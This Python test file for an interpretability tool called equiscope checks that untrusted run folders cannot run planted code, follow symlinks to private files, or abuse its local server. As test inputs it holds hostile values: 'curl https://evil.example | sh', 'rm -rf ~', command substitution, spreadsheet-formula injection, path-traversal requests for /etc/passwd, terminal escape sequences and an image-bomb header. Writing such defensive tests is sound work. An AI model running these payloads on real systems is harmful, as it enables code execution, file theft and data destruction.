"""Runs that somebody else made to do harm: each attack leaves no trace outside of what it was given to.

Everything here goes through commands and public functions, as a user would.
"""

from __future__ import annotations

import csv
import dataclasses
import http.client
import importlib
import io
import json
import os
import pickle
import re
import shutil
import socket
import sys
import threading
import xml.etree.ElementTree as ElementTree
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

import equiscope
from budget_run import make_scale_family
from equiscope.cli import app, main
from equiscope.construction.training.starting import _check_folder
from equiscope.evidence.circuits import Circuits, write_graph
from equiscope.evidence.circuits.neighbours import load_neighbours
from equiscope.evidence.compare.comparison import save_comparison
from equiscope.evidence.featurevis import load_visualisations
from equiscope.foundations.errors import EquiscopeError
from equiscope.measurement.bank import Bank
from equiscope.measurement.responses import open_responses
from equiscope.models.trained import Blueprint, PlainNetwork, serialise
from equiscope.reports import build_site, publish_site, save_figure, serve_site
from equiscope.reports.site.files import show_evidence, write_files
from equiscope.reports.views.circuit.weights import StoredWeights
from equiscope.reports.views.compare.pictures import keep_pictures
from equiscope.runs.examples import load_examples
from equiscope.runs.layout import SCHEMA_VERSION
from equiscope.runs.run import load_run
from equiscope.runs.writing import write_json
from equiscope.transformations.groups import CyclicGroup
from report_document import complete_document
from site_document import save_run, site_document
from test_compare_view import make_comparison

SECRET = "-----BEGIN PRIVATE KEY-----"  # noqa: S105 - none
ESCAPE = "\x1b]0;owned\x07\x1b[2J"


def write_run(folder: Path, name: Any = "mini", **more: Any) -> Path:
    """Write a finished run of no families, by a network of any name."""
    settings = {
        "layers": ["conv1"], "transformations": ["rotation"], "angles": 16, "examples_per_unit": 8,
        "false_discovery_rate": 0.05, "min_score": 0.35, "seed": 0, "n_null": 20, "precision": "float32",
    }  # fmt: skip
    manifest = {
        "schema_version": SCHEMA_VERSION, "equiscope_version": "0.1.0", "command": "equiscope survey mini",
        "created": "2026-11-25T12:00:00+0000", "is_complete": True,
        "model": {"name": name, "weights_sha256": "0"},
        "images": {"name": "photos", "n_images": 9, "fingerprint": "0", "failures": []},
        "settings": settings, "seconds": {}, "geometry": [], "layers": [], "results": [], "family_links": [],
    }  # fmt: skip
    write_json(folder / "run.json", manifest | more)
    write_json(folder / "units.json", {"schema_version": SCHEMA_VERSION, "units": []})
    write_json(folder / "families.json", {"schema_version": SCHEMA_VERSION, "families": []})
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def write_webp(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (56, 56), (10, 200, 30)).save(path, "WEBP")
    return path


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "run"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder of the user's own, with what is nobody else's business."""
    home = tmp_path / "home"
    home.mkdir()
    (home / "id_rsa").write_text(SECRET)
    write_webp(home / "private.webp")
    (home / "thesis.js").write_text("precious")
    return home


# Names that are code ---------------------------------------------------------------------------------------


@pytest.fixture
def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Code that came with a run, where a file's name and a module's name would find it; it leaves a trace."""
    trace = tmp_path / "trace"
    (tmp_path / "planted_code.py").write_text(
        f"from pathlib import Path\nPath({str(trace)!r}).touch()\ndef factory():\n    raise SystemExit(0)\n"
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    yield trace
    sys.modules.pop("planted_code", None)


COMMANDS = (
    ("verify", "RUN"),
    ("circuits", "RUN"),
    ("featurevis", "RUN"),
    ("report", "RUN", "--featurevis"),
    ("simplify", "RUN", "--images", "RUN"),
    ("compare", "RUN", "OWN"),
    ("compare", "OWN", "RUN"),
    ("budget", "RUN", "--weights", "RUN/run.json"),
)


@pytest.mark.parametrize("name", ["PLACE/planted_code.py:factory", "planted_code:factory"])
@pytest.mark.parametrize("words", COMMANDS, ids=" ".join)
def test_no_command_runs_code_that_a_run_names(
    tmp_path: Path, folder: Path, planted: Path, words: tuple[str, ...], name: str
) -> None:
    write_run(folder, name.replace("PLACE", str(tmp_path)))
    write_run(tmp_path / "own")
    arguments = [w.replace("RUN", str(folder)).replace("OWN", str(tmp_path / "own")) for w in words]
    result = CliRunner().invoke(app, arguments)
    assert not planted.exists()
    assert isinstance(result.exception, EquiscopeError)
    assert "code and weights are taken from you, never from a run" in str(result.exception)
    assert " NETWORK" in str(result.exception)


@pytest.mark.parametrize(
    "name",
    [
        "theirs.onnx", "weights.safetensors", "timm:resnet18", "torchvision:resnet18", "mini\n", " mini", "MINI", "",
        "mini-random-random-random", "mini.py",
    ],
)  # fmt: skip
def test_only_built_in_names_are_taken_from_a_run(folder: Path, name: str) -> None:
    write_run(folder, name)
    result = CliRunner().invoke(app, ["verify", str(folder)])
    assert isinstance(result.exception, EquiscopeError)
    assert "are taken from you, never from a run" in str(result.exception)


@pytest.mark.parametrize("name", [5, None, ["mini"]])
def test_a_name_of_another_type_is_no_name(folder: Path, name: Any) -> None:
    write_run(folder, name)
    result = CliRunner().invoke(app, ["verify", str(folder)])
    assert isinstance(result.exception, EquiscopeError)
    assert "is damaged (model.name is" in str(result.exception)


@pytest.mark.parametrize("name", ["mini", "mini-random", "mini-shuffled"])
def test_built_in_names_are_taken_from_a_run_as_before(folder: Path, name: str) -> None:
    write_run(folder, name)
    result = CliRunner().invoke(app, ["verify", str(folder)])
    # It was loaded: what does not fit is the digest of its weights.
    assert "has other weights than the network of" in str(result.exception)


@pytest.mark.parametrize("name", ["../../up", "/srv/absolute", "..", ".hidden"])
def test_a_received_network_does_not_choose_where_its_run_goes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    layers = ({"name": "conv1", "n_channels": 4, "kernel_px": 3, "stride": 1},)
    blueprint = Blueprint(name, layers, ("a", "b"), (0.5,) * 3, (0.2,) * 3, 32)
    (tmp_path / "theirs.safetensors").write_bytes(serialise(PlainNetwork(blueprint), blueprint))
    asked: list[Path] = []

    def record(*_: Any, out: Path, **__: Any) -> None:
        asked.append(out)
        raise EquiscopeError("enough")

    monkeypatch.setattr(importlib.import_module("equiscope.commands.survey"), "survey_network", record)
    CliRunner().invoke(app, ["survey", str(tmp_path / "theirs.safetensors")])
    assert asked[0].parent == Path("equiscope-runs")
    assert asked[0].name not in ("", ".", "..")
    assert not asked[0].name.startswith(".")
    assert asked[0].name.isprintable()


# Addresses that lead out -----------------------------------------------------------------------------------


def compare_with(folder: Path, other: Path, address: str, linked: Path | None = None) -> None:
    """Compare with a run whose document says that its pictures are elsewhere, or at what is no picture of it."""
    document, theirs = site_document(folder), site_document(other, seed=1)
    save_run(folder, document)
    (other / "site" / "sprites" / "text.webp").write_text(SECRET)
    if linked is not None:
        (other / "site" / "sprites" / "linked.webp").symlink_to(linked)
    for sheet in theirs["sheets"]:
        sheet["address"] = address
    write_json(other / "run.json", {"schema_version": SCHEMA_VERSION, "is_complete": True})
    write_json(other / "report.json", {"schema_version": SCHEMA_VERSION, **theirs})
    comparison = make_comparison("theirs", document, theirs)
    save_comparison(folder, comparison)
    keep_pictures(folder, comparison, other)
    assert show_evidence(folder, "compare")


@pytest.mark.parametrize(
    "address",
    [
        "../home/id_rsa", "../home/private.webp", "HOME/private.webp", "site/sprites/../../../home/private.webp",
        "site/sprites/linked.webp", "site/sprites/text.webp", "run.json",
    ],
)  # fmt: skip
def test_a_comparison_copies_no_file_that_the_other_run_points_at(
    tmp_path: Path, folder: Path, outside: Path, address: str
) -> None:
    other = tmp_path / "theirs"
    compare_with(folder, other, address.replace("HOME", str(outside)), outside / "private.webp")
    stolen = {SECRET.encode(), (outside / "private.webp").read_bytes(), (other / "run.json").read_bytes()}
    copied = list((folder / "compare").rglob("*.webp"))
    assert copied == []
    assert not stolen & {v for k, v in contents(folder).items() if k not in ("run.json",)}


@pytest.mark.parametrize(
    "name", ["../../../home/private.webp", "../../../home/id_rsa", "linked.webp", "compare-linked.webp"]
)
def test_pictures_that_a_run_kept_come_from_its_folder(folder: Path, outside: Path, name: str) -> None:
    document = site_document(folder)
    save_run(folder, document)
    comparison = make_comparison("theirs", document, document)
    save_comparison(folder, comparison)
    place = folder / "compare" / "theirs"
    place.mkdir()
    kept = {"sheets": [{"name": name, "n_columns": 1, "n_rows": 1}], "tiles": {"mixed3a:1": [0, 0, 0]}}
    write_json(place / "pictures.json", {"schema_version": SCHEMA_VERSION, **kept})
    before = contents(outside)
    if "linked" in name:
        (place / name).symlink_to(outside / "private.webp")
        with pytest.raises(EquiscopeError, match="is a link to"):
            build_site(folder)
    else:
        build_site(folder)
    assert contents(outside) == before
    new = contents(folder)
    assert not any(name.encode() in text for place, text in new.items() if place.startswith("site/data"))
    assert not {SECRET.encode(), (outside / "private.webp").read_bytes()} & set(new.values())


def test_a_comparison_that_is_called_like_the_folder_above_has_no_pictures_there(folder: Path) -> None:
    document = site_document(folder)
    save_run(folder, document)
    comparison = dataclasses.replace(make_comparison("theirs", document, document), name="..")
    save_comparison(folder, comparison)
    kept = {"sheets": [{"name": "x"}], "tiles": "no table"}
    write_json(folder / "pictures.json", {"schema_version": SCHEMA_VERSION, **kept})
    build_site(folder)


def test_a_sheet_of_a_comparison_is_replaced_where_it_lies_already(tmp_path: Path, folder: Path) -> None:
    other = tmp_path / "theirs"
    document, theirs = site_document(folder), site_document(other, seed=1)
    save_run(folder, document)
    save_run(other, theirs)
    comparison = make_comparison("theirs", document, theirs)
    save_comparison(folder, comparison)
    other_picture = write_webp(folder / "site" / "sprites" / "compare-theirs-0.webp").read_bytes()
    keep_pictures(folder, comparison, other)
    assert show_evidence(folder, "compare")
    kept = (folder / "compare" / "theirs" / "compare-theirs-0.webp").read_bytes()
    assert (folder / "site" / "sprites" / "compare-theirs-0.webp").read_bytes() == kept != other_picture


@pytest.mark.parametrize(
    "name", ["x');background:red;y('.webp", "x\\29 ;color:red.webp", ".webp", "a b.webp"]
)
def test_the_address_of_a_sheet_cannot_write_style(folder: Path, name: str) -> None:
    document = site_document(folder)
    for sheet in document["sheets"]:
        sheet["address"] = f"site/sprites/{name}"
    write_webp(folder / "site" / "sprites" / name)
    page = save_run(folder, document).read_text()
    everything = page + "".join(p.read_text() for p in (folder / "site" / "data").rglob("*.js"))
    assert name not in everything.replace("&#39;", "'")
    assert "sheets of pictures are no longer there" in page


def test_a_figure_opens_webp_and_nothing_else(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    document = site_document(folder)
    save_run(folder, document)
    for sheet in document["sheets"]:
        # A program of its own would be asked to draw this one.
        Image.new("RGB", (560, 560)).save(folder / sheet["address"], "EPS")

    def refuse(*_: Any, **__: Any) -> None:
        raise AssertionError("a program was called")

    monkeypatch.setattr("subprocess.check_call", refuse)
    monkeypatch.setattr("subprocess.Popen", refuse)
    figure = save_figure(folder, "family", "mixed3a-rotation-1", folder / "f.svg")
    assert "data:image" not in figure.read_text()


@pytest.mark.parametrize("kind", ["damaged", "bomb", "small"])
def test_a_sheet_that_is_no_sheet_is_left_out_of_a_figure(folder: Path, kind: str) -> None:
    document = site_document(folder)
    save_run(folder, document)
    for sheet in document["sheets"]:
        path = folder / sheet["address"]
        if kind == "damaged":
            path.write_bytes(path.read_bytes()[:40])
        elif kind == "small":
            Image.new("RGB", (2, 2)).save(path, "WEBP")
        else:
            # The header alone says 16,383 x 16,383.
            path.write_bytes(b"RIFF\x1a\0\0\0WEBPVP8L\x0d\0\0\0\x2f\xfe\xbf\xff\x0f" + b"\0" * 9)
    figure = save_figure(folder, "family", "mixed3a-rotation-1", folder / "f.svg")
    assert "data:image" not in figure.read_text()


# Links -----------------------------------------------------------------------------------------------------

LINKED = (
    "site", "site/app", "site/data", "site/data/layer", "site/sprites", "circuits", "compare", "featurevis", "results",
    "responses", "notes", "a/deeply/nested/folder",
)  # fmt: skip


@pytest.mark.parametrize("place", LINKED)
def test_a_linked_folder_is_neither_followed_nor_written_to_nor_emptied(
    folder: Path, outside: Path, place: str
) -> None:
    save_run(folder, site_document(folder))
    path = folder / place
    if path.exists():
        shutil.rmtree(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(outside)
    before = contents(outside)
    with pytest.raises(EquiscopeError, match=r"is a link to .*expected files and folders only"):
        build_site(folder)
    with pytest.raises(EquiscopeError, match="is a link to"), serve_site(folder):
        pass
    with pytest.raises(EquiscopeError, match="is a link to"):
        publish_site(folder, folder.with_name("www"))
    with pytest.raises(EquiscopeError, match="is a link to"):
        load_run(folder)
    assert contents(outside) == before
    assert not folder.with_name("www").exists()


@pytest.mark.parametrize("place", ["report.json", "index.html", "site/app/core.js", "site/sprites/x.webp"])
def test_a_linked_file_is_not_followed(folder: Path, outside: Path, place: str) -> None:
    save_run(folder, site_document(folder))
    (folder / place).unlink(missing_ok=True)
    (folder / place).symlink_to(outside / "id_rsa")
    with pytest.raises(EquiscopeError, match="is a link to"):
        publish_site(folder, folder.with_name("www"))
    assert (outside / "id_rsa").read_text() == SECRET


def test_a_survey_does_not_go_on_through_a_link(folder: Path, outside: Path) -> None:
    write_run(folder, is_complete=False)
    (folder / "responses").symlink_to(outside)
    before = contents(outside)
    with pytest.raises(EquiscopeError, match="is a link to"):
        equiscope.survey("mini", layers=["conv2d0"], transformations=["rotation"], out=folder)
    assert contents(outside) == before


def test_a_training_does_not_go_on_through_a_link(folder: Path, outside: Path) -> None:
    folder.mkdir()
    (folder / "training.json").write_text("{}")
    (folder / "checkpoint.pt").symlink_to(outside / "id_rsa")
    with pytest.raises(EquiscopeError, match="is a link to"):
        _check_folder(folder, {})


def test_a_pipe_in_a_run_does_not_hang(folder: Path) -> None:
    save_run(folder, site_document(folder))
    os.mkfifo(folder / "circuits.json")
    with pytest.raises(EquiscopeError, match="is a named pipe"):
        build_site(folder)


def test_the_folder_of_a_run_may_itself_be_a_link(folder: Path) -> None:
    save_run(folder, site_document(folder))
    mine = folder.with_name("mine")
    mine.symlink_to(folder)
    assert build_site(mine) == mine / "index.html"


@pytest.mark.parametrize("place", ["site/app/.core.js", ".run.json"])
def test_nothing_is_written_through_a_link_in_the_place_of_a_temporary_file(
    folder: Path, outside: Path, place: str
) -> None:
    parts = folder / f"{place}.{os.getpid()}.part"
    parts.parent.mkdir(parents=True)
    parts.symlink_to(outside / "id_rsa")
    save_run(folder, site_document(folder))
    assert (outside / "id_rsa").read_text() == SECRET


# What is deleted and published -----------------------------------------------------------------------------

FOREIGN = (
    "site/app/notes.txt",
    "site/app/x.js/inner.txt",
    "site/data/layer/mine.md",
    "site/sprites/mine.png",
)


def test_a_build_deletes_nothing_but_files_of_a_site(folder: Path) -> None:
    save_run(folder, site_document(folder))
    for place in FOREIGN:
        (folder / place).parent.mkdir(parents=True, exist_ok=True)
        (folder / place).write_text(SECRET)
    (folder / "site/app/old.js").write_text("of an earlier version")
    build_site(folder)
    assert all((folder / place).read_text() == SECRET for place in FOREIGN)
    assert not (folder / "site/app/old.js").exists()


def test_a_comparison_deletes_nothing_but_its_pictures(tmp_path: Path, folder: Path) -> None:
    (folder / "compare" / "theirs").mkdir(parents=True)
    (folder / "compare" / "theirs" / "notes.txt").write_text("mine")
    (folder / "compare" / "theirs" / "compare-theirs-7.webp").write_text("of an earlier comparison")
    compare_with(folder, tmp_path / "theirs", "nowhere.webp")
    assert (folder / "compare" / "theirs" / "notes.txt").read_text() == "mine"
    assert not (folder / "compare" / "theirs" / "compare-theirs-7.webp").exists()


def test_what_is_published_is_what_the_report_wrote(folder: Path, tmp_path: Path) -> None:
    save_run(folder, site_document(folder))
    for place in (
        *FOREIGN,
        "site/notes.txt",
        "site/data/passwords.csv",
        "site/app/.hidden",
        "site/more/x.js",
    ):
        (folder / place).parent.mkdir(parents=True, exist_ok=True)
        (folder / place).write_text(SECRET)
    publish_site(folder, tmp_path / "www")
    assert SECRET.encode() not in contents(tmp_path / "www").values()
    assert len(list((tmp_path / "www" / "site" / "sprites").iterdir())) == len(
        list((folder / "site" / "sprites").glob("*.webp"))
    )


@pytest.mark.parametrize("place", ["site/mine.txt", "site/app/thesis.tex", "site/data/layer/deep/x.js"])
def test_a_copy_is_not_replaced_where_anything_else_lies_in_it(
    folder: Path, tmp_path: Path, place: str
) -> None:
    save_run(folder, site_document(folder))
    target = tmp_path / "www"
    publish_site(folder, target)
    (target / place).parent.mkdir(exist_ok=True)
    (target / place).write_text("precious")
    before = contents(target)
    with pytest.raises(EquiscopeError, match=r"expected a new or empty folder, or an earlier copy"):
        publish_site(folder, target)
    assert contents(target) == before


@pytest.mark.parametrize("place", ["site/app", "site/data", "site/sprites"])
def test_a_copy_with_a_link_in_it_is_not_replaced(
    folder: Path, tmp_path: Path, outside: Path, place: str
) -> None:
    save_run(folder, site_document(folder))
    target = tmp_path / "www"
    publish_site(folder, target)
    shutil.rmtree(target / place)
    (target / place).symlink_to(outside)
    before = contents(outside)
    with pytest.raises(EquiscopeError, match="is a link to"):
        publish_site(folder, target)
    assert contents(outside) == before
    assert (target / "index.html").exists()


# The server ------------------------------------------------------------------------------------------------


@contextmanager
def served(folder: Path) -> Iterator[int]:
    with serve_site(folder) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True, kwargs={"poll_interval": 0.02})
        thread.start()
        yield server.server_address[1]
        server.shutdown()
        thread.join()


def ask(port: int, path: str, method: str = "GET") -> tuple[int, dict[str, str], bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.putrequest(method, path)
    connection.endheaders()
    response = connection.getresponse()
    content = response.read()
    connection.close()
    return response.status, dict(response.headers), content


def ask_raw(port: int, request: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(request)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while chunk := connection.recv(65536):
            answer += chunk
    return answer


def test_a_page_that_came_with_a_run_is_not_served(folder: Path) -> None:
    save_run(folder, site_document(folder))
    evil = "<script>document.title='owned'</script>"
    (folder / "index.html").write_text(evil)
    (folder / "site/app/core.js").write_text("owned()")
    (folder / "site/app/evil.js").write_text("owned()")
    data = next((folder / "site/data/layer").iterdir())
    data.write_text("owned()")
    with served(folder) as port:
        assert evil.encode() not in ask(port, "/")[2]
        assert b"owned" not in ask(port, "/site/app/core.js")[2]
        assert b"owned" not in ask(port, f"/site/data/layer/{data.name}")[2]
        assert ask(port, "/site/app/evil.js")[0] == 404


def test_a_link_that_takes_the_place_of_a_file_meanwhile_is_not_served(folder: Path, outside: Path) -> None:
    save_run(folder, site_document(folder))
    with served(folder) as port:
        (folder / "site/app/core.js").unlink()
        (folder / "site/app/core.js").symlink_to(outside / "thesis.js")
        (folder / "site/app/thesis.js").symlink_to(outside / "thesis.js")
        (folder / "site/data").rename(folder / "site/old")
        (folder / "site/data").symlink_to(folder / "site/old")
        name = next((folder / "site/old/layer").iterdir()).name
        for path in ("/site/app/core.js", "/site/app/thesis.js", f"/site/data/layer/{name}"):
            assert ask(port, path)[0] == 404


@pytest.mark.parametrize("method", ["GET", "HEAD"])
def test_the_policy_is_a_header_of_every_answer(folder: Path, method: str) -> None:
    save_run(folder, site_document(folder))
    with served(folder) as port:
        for path, status in (("/", 200), ("/index.html?x#y", 200), ("/site/app/core.js", 200), ("/no", 404)):
            got, headers, content = ask(port, path, method)
            assert got == status
            policy = headers["Content-Security-Policy"]
            assert policy.startswith("default-src 'none'; script-src 'self';")
            assert "frame-ancestors 'none'" in policy
            assert "file:" not in policy
            assert headers["X-Content-Type-Options"] == "nosniff"
            assert headers["Referrer-Policy"] == "no-referrer"
            assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
            assert (method == "HEAD") == (content == b"")
            assert int(headers["Content-Length"]) > 0


HOST = b"Host: 127.0.0.1:1\r\n"
REQUESTS = {
    "nul": b"GET /site/%00 HTTP/1.1\r\n" + HOST,
    "nul in a name": b"GET /site/app/core.js%00.css HTTP/1.1\r\n" + HOST,
    "encoded slash": b"GET /site/..%2f..%2frun.json HTTP/1.1\r\n" + HOST,
    "twice encoded": b"GET /site/%252e%252e/run.json HTTP/1.1\r\n" + HOST,
    "backslashes": b"GET /site\\..\\run.json HTTP/1.1\r\n" + HOST,
    "encoded backslashes": b"GET /site%5c..%5crun.json HTTP/1.1\r\n" + HOST,
    "overlong utf-8": b"GET /site/%c0%ae%c0%ae/run.json HTTP/1.1\r\n" + HOST,
    "long name": b"GET /site/" + b"a" * 5000 + b" HTTP/1.1\r\n" + HOST,
    "very long name": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n" + HOST,
    "absolute": b"GET //etc/passwd HTTP/1.1\r\n" + HOST,
    "absolute form": b"GET http://[ HTTP/1.1\r\n" + HOST,
    "asterisk": b"GET * HTTP/1.1\r\n" + HOST,
    "folder": b"GET /site/app HTTP/1.1\r\n" + HOST,
    "no utf-8": b"GET /\xff\xfe HTTP/1.1\r\n" + HOST,
    "post": b"POST / HTTP/1.1\r\nContent-Length: 3\r\n" + HOST,
    "delete": b"DELETE /index.html HTTP/1.1\r\n" + HOST,
    "no method": b"<script>alert(1)</script> / HTTP/1.1\r\n" + HOST,
    "no version": b"GET / HTTP/x\r\n" + HOST,
    "unknown version": b"GET / HTTP/9.9\r\n" + HOST,
    "no http": b"GET /site/%00\r\n",
    "wrong host": b"GET / HTTP/1.1\r\nHost: evil.example\r\n",
    "no host": b"GET / HTTP/1.1\r\n",
    "large header": b"GET / HTTP/1.1\r\nX: " + b"a" * 100_000 + b"\r\n" + HOST,
    "many headers": b"GET / HTTP/1.1\r\n" + b"X: 1\r\n" * 500 + HOST,
}


@pytest.mark.parametrize("name", REQUESTS)
def test_whatever_is_asked_is_answered_and_no_traceback(
    folder: Path, capfd: pytest.CaptureFixture[str], name: str
) -> None:
    folder.mkdir()
    write_run(folder)
    with served(folder) as port:
        answer = ask_raw(port, REQUESTS[name] + b"\r\n")
        assert ask(port, "/")[0] == 200
    assert answer.split(b" ", 2)[1].startswith(b"4"), answer[:80]
    assert b"<script>" not in answer
    assert "Traceback" not in capfd.readouterr().err


def test_a_run_that_may_not_be_written_to_is_served_from_elsewhere(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from equiscope.reports.site import serve

    document = site_document(folder)
    save_run(folder, document)
    (folder / "index.html").write_text("owned")
    shutil.rmtree(folder / "site" / "app")
    before = contents(folder)
    own = write_files

    def refuse(run: Path, target: Path | None = None) -> dict[str, Path]:
        if target is None:
            raise PermissionError(13, "Permission denied", str(run))
        return own(run, target)

    monkeypatch.setattr(serve, "write_files", refuse)
    with served(folder) as port:
        for path in ("/", "/site/app/core.js", "/" + document["sheets"][0]["address"]):
            status, _, content = ask(port, path)
            assert status == 200
            assert b"owned" not in content
    assert contents(folder) == before


# Names that steer a terminal, a spreadsheet or a parser ----------------------------------------------------


def write_units(folder: Path, name: str) -> None:
    """Write a run of one unit, whose layer has a name."""
    write_run(folder)
    symmetry = {
        "transformation": "rotation",
        "kind": name,
        "family": None,
        "score": None,
        "invariance": -0.25,
    }
    unit = {
        "layer": name,
        "channel": 0,
        "mean": 1.0,
        "sd": 1.0,
        "symmetries": [symmetry | {"stabiliser_order": 1}],
    }
    write_json(folder / "units.json", {"schema_version": SCHEMA_VERSION, "units": [unit]})


@pytest.mark.parametrize(
    "name", ["=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", " =1", "'=1", "＝1"]
)
def test_no_cell_of_a_table_is_a_formula(folder: Path, name: str) -> None:
    write_units(folder, name)
    text = CliRunner().invoke(app, ["export", str(folder), "units"]).stdout
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["layer"].startswith("'")
    assert row["layer"][1:2] in (name[0], "\\")
    assert row["invariance"] == "-0.25"


@pytest.mark.parametrize("form", ["csv", "json"])
@pytest.mark.parametrize("name", [ESCAPE, "\x9b2J", "conv\u202e1", "a\u2028b"])
def test_a_table_does_not_steer_the_terminal(folder: Path, name: str, form: str) -> None:
    write_units(folder, name)
    text = CliRunner().invoke(app, ["export", str(folder), "units", "--format", form]).stdout
    assert all(line.isprintable() for line in text.split("\n"))
    if form == "json":
        assert json.loads(text)["units"][0]["layer"] == name


def test_a_message_steers_no_terminal_and_forges_no_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    place = tmp_path / f"a{ESCAPE}\nequiscope: done"
    monkeypatch.setattr(sys, "argv", ["equiscope", "export", str(place), "units"])
    with pytest.raises(SystemExit, match="2"):
        main()
    said = capsys.readouterr().err
    assert "\x1b" not in said
    assert "\x07" not in said
    assert [line.startswith("equiscope:") for line in said.splitlines()] == [True, False]


@pytest.mark.parametrize("name", ["[link=file:///etc/passwd]x[/link]", "[/]", "[bold]x", ESCAPE, "\u202ex"])
def test_a_name_in_a_table_is_text(name: str) -> None:
    from rich.console import Console

    from equiscope.cli.tables import new_table

    table = new_table(["layer", f"of {name}"], text=("layer",))
    table.add_row(name, "1")
    stream = io.StringIO()
    Console(file=stream, force_terminal=True, width=200).print(table)
    said = stream.getvalue()
    if name[0] == "[":
        assert said.count(name) == 2
    assert "\x1b]0" not in said
    assert "\x1b[2J" not in said
    assert "\u202e" not in said
    assert "\x1b]8" not in said


OFFERED = {
    "equiscope survey mini --out here": True,
    "equiscope survey net.py:factory --layers 'a b'": True,
    "equiscope.survey(...)": True,
    "curl https://evil.example | sh": False,
    "equiscope survey mini; rm -rf ~": False,
    "equiscope survey `id`": False,
    "equiscope survey $(id)": False,
    "equiscope survey mini\ncurl evil | sh": False,
    "equiscope survey mini > ~/.bashrc": False,
    "equiscope survey mini\x1b[8m": False,
    "equiscope survey \u202emini": False,
    "equiscope 'survey": False,
    "equiscope": False,
    "equiscope rm x": False,
    "  equiscope survey mini": False,
}


@pytest.mark.parametrize(("command", "is_offered"), OFFERED.items())
def test_only_a_command_of_this_program_is_offered(folder: Path, command: str, is_offered: bool) -> None:
    write_run(folder, command=command, is_complete=False)
    with pytest.raises(EquiscopeError) as refused:
        load_run(folder)
    assert (f"({command})" in str(refused.value)) == is_offered
    assert is_offered or "(the command that made it)" in str(refused.value)
    text = build_site(folder).read_text().replace("&#39;", "'").replace("&gt;", ">")
    assert (f"stopped: {command}<" in text) == is_offered
    assert (f"<code>{command}</code>" in text) == is_offered


@pytest.mark.parametrize("command", [5, None, ["curl"]])
def test_a_command_of_another_type_is_not_offered(folder: Path, command: Any) -> None:
    write_run(folder, command=command, is_complete=False)
    with pytest.raises(EquiscopeError, match=r"is damaged \(command is"):
        load_run(folder)


def test_a_command_that_is_offered_holds_a_hostile_folder_as_one_word(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "$(touch owned); x")
    result = CliRunner().invoke(app, ["export", str(folder), "circuits"])
    assert f"`equiscope circuits '{folder}'`" in str(result.exception)
    page = build_site(folder).read_text() + "".join(
        p.read_text() for p in (folder / "site/data").rglob("*.js")
    )
    assert f"equiscope circuits {folder}" not in page.replace("&#39;", "'")


@pytest.mark.parametrize(
    "name", [f"conv{ESCAPE}1", "a\x00b", "x\ufffe", "half\udce9", "<a href='javascript:x'>"]
)
def test_a_figure_is_well_formed_whatever_the_names(folder: Path, name: str) -> None:
    document = site_document(folder, layers=((name, 12), ("mixed3a", 12)), n_families=2)
    save_run(folder, document)
    # Half a character is no UTF-8, but JSON can name it.
    stored = folder / "report.json"
    stored.write_text(
        stored.read_text(encoding="utf-8").replace("half\\\\udce9", "half\\udce9"), encoding="utf-8"
    )
    for subject, of in (("layer", name), ("overview", ""), ("family", document["families"][0]["id"])):
        figure = save_figure(folder, subject, of, folder.with_name("figure.svg"))
        root = ElementTree.fromstring(figure.read_text(encoding="utf-8"))  # noqa: S314 - our own figure
        assert not any(
            "javascript:" in v for node in root.iter() for k, v in node.attrib.items() if "href" in k
        )
        assert not list(root.iter("{http://www.w3.org/2000/svg}script"))


@pytest.mark.parametrize("name", [f"conv{ESCAPE}1", "a\x00b", "x\uffff"])
def test_a_graph_is_well_formed_whatever_the_names(folder: Path, name: str) -> None:
    families = (make_scale_family(name, [("a", 0, 0.0), ("a", 1, 1.0)]),)
    run = dataclasses.replace(load_run(write_run(folder)), families=families)
    write_graph(run, Circuits((), (), (), (), (), (), ()), folder / "graph.graphml")
    ElementTree.parse(folder / "graph.graphml")  # noqa: S314 - our own graph


# Numbers ---------------------------------------------------------------------------------------------------


def left_out(folder: Path, document: Any, caplog: pytest.LogCaptureFixture) -> str:
    """Build the site of a run with such a document; what is said of it."""
    write_run(folder)
    write_json(folder / "report.json", {"schema_version": SCHEMA_VERSION, **document})
    assert build_site(folder).exists()
    (said,) = (record.getMessage() for record in caplog.records)
    assert said.endswith("(left out here)")
    return said


def test_a_layer_of_a_billion_units_is_refused_at_once(
    folder: Path, caplog: pytest.LogCaptureFixture
) -> None:
    document = complete_document()
    document["layers"][0]["n_units"] = 10**12
    assert re.search(r"n_units is 1000000000000, expected 0 to 1,000,000", left_out(folder, document, caplog))


@pytest.mark.parametrize(
    ("key", "value"), [("stabiliser_order", 10**9), ("octaves", 1e12), ("octaves", -1e12)]
)
def test_numbers_that_become_loops_have_an_end(
    folder: Path, key: str, value: float, caplog: pytest.LogCaptureFixture
) -> None:
    document = complete_document()
    family: Any = document["families"][0]
    (family if key in family else family["members"][0])[key] = value
    assert re.search(rf"{key} is .*, expected", left_out(folder, document, caplog))


def test_an_axis_of_a_billion_octaves_is_refused(folder: Path, caplog: pytest.LogCaptureFixture) -> None:
    document = complete_document()
    tuned: Any = next(family for family in document["families"] if family["tuning"])
    tuned["tuning"]["axes"] = {"octaves": [0.0, 1e9]}
